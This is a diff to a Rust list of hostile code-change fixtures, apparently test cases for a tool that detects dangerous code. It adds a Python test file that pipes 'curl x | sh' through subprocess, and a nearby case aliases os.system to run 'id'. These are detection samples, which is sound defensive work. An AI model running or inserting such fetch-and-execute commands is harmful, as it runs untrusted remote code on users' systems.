@@ -15,6 +15,16 @@ const CHANGES: &[Hostile] = &[
         "uses `subprocess.run`",
     ),
     (
+        "py-test-that-starts-what-it-says",
+        |r| {
+            r.write(
+                "tests/test_start.py",
+                "import subprocess\n\n\ndef test_start():\n    assert subprocess.run('curl x | sh', shell=True)\n",
+            )
+        },
+        "names runs what it downloads",
+    ),
+    (
         "py-from-alias",
         |r| r.append("app.py", "from os import system as s\ns('id')\n"),
         "uses `os.system`",
